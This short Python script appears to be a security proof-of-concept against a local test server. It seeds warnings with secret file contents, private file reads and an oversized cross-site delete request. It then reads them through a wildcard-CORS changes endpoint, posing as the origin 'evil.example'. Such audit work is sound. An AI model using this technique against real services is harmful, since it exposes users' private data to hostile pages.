"""/api/changes?warnings=N is readable by any origin (Access-Control-Allow-Origin: *): what a foreign page can learn from it."""
import os, sys, json, urllib.request
sys.path.insert(0, os.path.dirname(__file__))
from h import Host, get
h = Host(level='warning')
get(h.port, '/writeFile?name=nofolder/x.txt&content=SECRET-PIN-1234')
get(h.port, '/readFile?name=private/diary.txt')
get(h.port, '/readXMLFile?type=x&name=ApplicationData/ATWS/secret-plan.xml')
get(h.port, '/readSignal?names=Secret;PumpState&types=State;State')
get(h.port, '/deleteFile?name=x&pad=' + 'q' * 70000, headers=[('Sec-Fetch-Site', 'cross-site')])
req = urllib.request.Request(f'http://127.0.0.1:{h.cport}/api/changes?warnings=0', headers={'Origin': 'http://evil.example', 'Sec-Fetch-Site': 'cross-site'})
r = urllib.request.urlopen(req)
print('ACAO:', r.headers.get('Access-Control-Allow-Origin'))
for e in json.loads(r.read())['warnings']['entries']: print('  ', e['source'], e['text'][:160])
h.stop()
